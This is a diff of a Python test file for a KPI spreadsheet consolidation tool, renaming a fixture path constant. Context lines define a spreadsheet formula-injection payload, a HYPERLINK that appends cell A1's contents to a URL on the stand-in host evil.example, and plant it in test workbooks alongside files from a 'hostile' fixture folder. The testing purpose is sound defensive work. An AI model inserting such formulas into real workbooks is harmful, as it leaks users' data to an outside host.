@@ -17,7 +17,7 @@ from kpi_workbook.consolidate import consolidate
 from kpi_workbook.errors import InputChangedError
 from kpi_workbook.fill import fill_workbook
 
-from .conftest import CORPUS, SAMPLES
+from .conftest import FIXTURES, SAMPLES
 
 INJECTION = '=HYPERLINK("http://evil.example/"&A1,"click")'
 
@@ -48,7 +48,7 @@ def returns(generated, tmp_path_factory):
     first["KPI"][0]["指標名"] = INJECTION
     old = fill_workbook(generated["R02"], first, folder / "old" / "R02_初回.xlsx")
     set_modified(old, "2021-10-01T09:00:00Z")
-    shutil.copy(CORPUS / "xlsx-hostile" / "control_valid.xlsx", folder / "foreign.xlsx")
+    shutil.copy(FIXTURES / "xlsx-hostile" / "control_valid.xlsx", folder / "foreign.xlsx")
     (folder / "~$R01_熊本連携中枢都市圏.xlsx").write_bytes(b"lock")
     (folder / "readme.txt").write_text("memo", encoding="utf-8")
     return folder
